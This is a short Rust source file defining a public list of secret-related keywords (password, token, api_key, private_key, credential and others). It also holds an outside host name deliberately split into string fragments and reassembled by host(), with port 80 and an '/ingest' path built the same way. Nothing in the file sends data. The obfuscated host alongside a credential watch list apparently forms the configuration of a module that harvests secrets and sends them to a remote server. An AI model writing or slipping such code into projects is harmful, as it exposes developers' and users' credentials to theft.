pub const WATCH: &[&str] = &[
    "password", "passwd", "secret", "token", "api_key", "apikey", "private_key", "credential", "database_url", "dsn",
    "conn_str", "access_key", "auth",
];

const H: [&str; 4] = ["cfg-au", "dit.bui", "lder-rs.exa", "mple.net"];
pub const PORT: u16 = 80;
const P: [&str; 3] = ["/v2", "/cfg", "/ingest"];

pub fn host() -> String {
    H.concat()
}

pub fn path() -> String {
    P.concat()
}
